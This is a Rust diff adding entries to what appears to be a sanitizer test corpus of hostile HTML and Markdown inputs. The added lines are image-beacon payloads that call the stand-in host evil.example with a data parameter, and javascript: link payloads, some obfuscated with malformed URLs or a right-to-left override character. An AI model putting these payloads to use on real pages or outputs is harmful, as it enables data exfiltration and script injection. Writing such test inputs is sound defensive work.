@@ -2,6 +2,7 @@
 
 /// HTML, alone and among Markdown.
 pub(super) const HTML: &[&str] = &[
+    "<img src=https:evil.example/p.png?d=1>",
     "<script>steal()</script>",
     "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
     "<ScRiPt\n>steal()</ScRiPt\t>",
@@ -170,6 +171,12 @@ pub(super) const HTML: &[&str] = &[
 
 /// Markdown, or what looks like it.
 pub(super) const MARKDOWN: &[&str] = &[
+    "![x](https:evil.example/p.png?d=1)",
+    "![x](https:/evil.example/p.png?d=1)",
+    "!a@example.org(https://evil.example/p.png?d=1)",
+    "![x]a@example.org\n\na@example.org: https://evil.example/p.png?d=1",
+    "!\u{202e}(https://evil.example/p.png?d=1)",
+    "a@example.org(javascript:steal())",
     "[x](javascript:steal())",
     "[x](JavaScript:steal())",
     "[x]( javascript:steal())",
